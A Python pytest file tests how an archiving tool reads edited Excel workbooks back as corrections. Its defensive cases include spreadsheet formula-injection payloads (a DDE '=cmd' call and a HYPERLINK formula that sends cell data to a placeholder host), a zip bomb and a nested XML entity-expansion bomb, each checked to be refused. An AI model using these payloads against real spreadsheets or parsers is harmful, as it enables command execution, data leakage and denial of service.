"""Edited workbooks come back as edited CSV does; nothing in them is reckoned with, and bombs are refused."""

from __future__ import annotations

import zipfile
from datetime import datetime

import msgspec
import openpyxl
import pytest
from returned import EDITED, brought, exported

from onrecord.archive import Archive
from onrecord.config import Settings
from onrecord.errors import ExportError
from onrecord.export import xlsx
from onrecord.export.back import read
from onrecord.export.chosen import OF_RECORDS
from onrecord.export.formats import ALL
from onrecord.sources.children import xlsx as child

SHEET = """<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>"""
NUMERIC = {"low", "high", "best", "latitude", "where_latitude", "where_longitude"}


def edited(path, sheet, row, **cells):
    book = openpyxl.load_workbook(path)
    head = [cell.value for cell in book[sheet][1]]
    for name, value in cells.items():
        cell = book[sheet].cell(row + 2, head.index(name) + 1)
        cell.value = float(value) if name in NUMERIC else value
        if value == "=Ana":
            cell.data_type = "s"
    book.save(path)
    return path


def with_sheet(path, rows):
    """A workbook whose first sheet is made of these rows of XML."""
    with zipfile.ZipFile(path) as before:
        parts = {name: before.read(name) for name in before.namelist()}
    parts["xl/worksheets/sheet1.xml"] = SHEET.format(rows).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as after:
        for name, data in parts.items():
            after.writestr(name, data)
    return path


@pytest.mark.parametrize("kind", [ALL, *OF_RECORDS])
def test_no_workbook_that_nobody_edited_changes_anything(archive, tmp_path, kind):
    assert brought(archive, exported(archive, "xlsx", tmp_path, kind)) == ([], [])
    assert archive.history() == ()


def test_a_workbook_that_a_spreadsheet_saved_anew_changes_nothing(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, ALL)
    book = openpyxl.load_workbook(path)
    book.create_sheet("empty")
    book.save(path)
    assert brought(archive, path) == ([], [])


@pytest.mark.parametrize(("kind", "row", "cells", "field", "value"), EDITED)
def test_an_edited_cell_of_a_sheet_is_a_correction(archive, tmp_path, kind, row, cells, field, value):  # noqa: PLR0917
    path = edited(exported(archive, "xlsx", tmp_path, ALL), kind, row, **cells)
    (placed,), left = brought(archive, path)
    assert left == []
    (entry,) = [one for one in placed.entries if one.target.field == field.partition(".")[0]]
    inside = field.partition(".")[2]
    assert (entry.new[inside] if inside else entry.new) == value
    assert brought(archive, path)[0] == []  # once is enough


def test_days_and_truths_that_a_spreadsheet_knows_are_read_as_such(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, ALL)
    day = datetime(2022, 11, 24)
    edited(path, "tolls", 0, when_first=day, when_last=day)
    edited(path, "attributions", 2, speaker_inferred=False)
    placed, left = brought(archive, path)
    assert left == []
    assert [list(one.values) for one in placed] == [["speaker_inferred"], ["when"]]
    assert archive.get("d1").tolls[0].when.value.timex == "2022-11-24"


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("=1+1", "is a formula"),
        ('=HYPERLINK("https://a.example/?"&A2)', "is a formula"),
        ("=cmd|'/c calc'!A0", "is a formula"),
        ("#N/A", "is an error"),
    ],
)
def test_a_formula_is_told_and_never_reckoned_with(archive, tmp_path, value, why):
    path = edited(exported(archive, "xlsx", tmp_path, "tolls"), "tolls", 0, category=value)
    edited(path, "tolls", 2, category="killed")
    (placed,), (left,) = brought(archive, path)
    assert placed.values == {"category": "killed"}
    assert left.place.endswith("tolls row 2")
    assert why in left.why
    assert "D2" in left.why


def test_a_sheet_of_something_else_is_told_and_the_others_are_read(archive, tmp_path):
    path = edited(exported(archive, "xlsx", tmp_path, ALL), "tolls", 0, category="killed")
    book = openpyxl.load_workbook(path)
    book.create_sheet("notes", 0)["B3"] = "ask Ada"
    book.save(path)
    (placed,), (left,) = brought(archive, path)
    assert placed.values == {"category": "killed"}
    assert left.place.endswith("notes row 3")
    assert "the heading is of no table of records" in left.why


def test_a_cell_beside_the_table_is_told(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, "tolls")
    book = openpyxl.load_workbook(path)
    book["tolls"].cell(2, 60).value = "why?"
    book.save(path)
    placed, (left,) = brought(archive, path)
    assert (placed, left.why) == ([], "the row has more or fewer cells than the heading")


def test_what_was_cut_off_in_the_export_is_no_edit(archive, tmp_path, monkeypatch, record):
    monkeypatch.setattr("onrecord.export.xlsx.LONGEST", 40)
    monkeypatch.setattr("onrecord.export.back.tables.LONGEST", 40)
    path = exported(archive, "xlsx", tmp_path, "attributions")
    sheet = openpyxl.load_workbook(path)["attributions"]
    assert max(len(str(cell.value)) for row in sheet.iter_rows(min_row=2) for cell in row) == xlsx.LONGEST
    assert brought(archive, path) == ([], [])


@pytest.mark.parametrize("number", [49.12345678901234567, 1 / 3, 1e-9, -179.99999999999997])
def test_the_digits_that_spreadsheets_drop_are_no_edit(tmp_path, record, number):
    where = msgspec.structs.replace(record.places[0].value, latitude=number / 3, longitude=number)
    place = msgspec.structs.replace(record.places[0], value=where)
    changed = msgspec.structs.replace(record, places=(place, *record.places[1:]))
    with Archive(tmp_path / "b.onrecord", happenings=lambda one: ()) as made:
        made.add(changed)
        assert brought(made, exported(made, "xlsx", tmp_path, "places")) == ([], [])


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "is no Excel workbook"),
        (b"document,id\nd1,t1\n", "is no Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), "without a password"),
    ],
)
def test_what_is_no_workbook_is_an_error(archive, tmp_path, data, why):
    path = tmp_path / "x.xlsx"
    path.write_bytes(data)
    with pytest.raises(ExportError, match=why):
        list(read(path, archive))


def test_a_workbook_that_is_cut_off_is_an_error(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, "tolls")
    path.write_bytes(path.read_bytes()[:-100])
    with pytest.raises(ExportError, match="is no Excel workbook, or a damaged"):
        list(read(path, archive))


def test_a_bomb_is_refused_before_it_is_unpacked(archive, tmp_path):
    path = with_sheet(exported(archive, "xlsx", tmp_path, "tolls"), "<row/>" * (24 << 20))
    assert path.stat().st_size < 1 << 20
    with pytest.raises(ExportError, match="unpacks to over 200 times its size"):
        list(read(path, archive))


def test_a_large_file_is_refused(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, "tolls")
    with path.open("ab") as stream:
        stream.truncate((1 << 20) + 1)
    with pytest.raises(ExportError, match="has over 1 megabytes"):
        list(read(path, archive, settings=Settings(file_megabytes=1)))


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="999999999999"><c r="A999999999999"><v>1</v></c></row>',
        '<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>',
        '<row r="1048576"><c r="A1048576"><v>1</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>99999</v></c></row>',
        '<row r="one"/>',
    ],
)
def test_a_strange_sheet_ends_soon_and_changes_nothing(archive, tmp_path, rows):
    path = with_sheet(exported(archive, "xlsx", tmp_path, "tolls"), rows)
    placed, left = brought(archive, path)
    assert placed == []
    assert all("tolls row" in one.place for one in left)


def test_entities_that_grow_are_not_unfolded(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, "tolls")
    names = "".join(f'<!ENTITY e{at + 1} "{f"&e{at};" * 10}">' for at in range(12))
    doctype = f'<!DOCTYPE w [<!ENTITY e0 "killed">{names}]>'
    with zipfile.ZipFile(path) as before:
        parts = {name: before.read(name) for name in before.namelist()}
    sheet = doctype + SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&e12;</t></is></c></row>')
    with zipfile.ZipFile(path, "w") as after:
        for name, data in {**parts, "xl/worksheets/sheet1.xml": sheet.encode()}.items():
            after.writestr(name, data)
    with pytest.raises(ExportError, match="is no Excel workbook, or a damaged"):
        brought(archive, path)
    assert archive.history() == ()


def test_what_keeps_the_reader_too_long_is_an_error(archive, tmp_path):
    path = exported(archive, "xlsx", tmp_path, "tolls")
    with pytest.raises(ExportError, match="takes the reader of workbooks over 1e-06 seconds"):
        list(read(path, archive, settings=Settings(pdf_seconds=1e-6)))


@pytest.mark.parametrize(
    ("value", "words"), [("a_x005F_x000D_", "a_x000D_"), ("_x0000_", "_x0000_"), ("_xD800_", "_xD800_"), ("a_x0009_b", "a\tb")]
)  # fmt: skip
def test_escapes_of_workbooks(value, words):
    assert child.text(value) == words
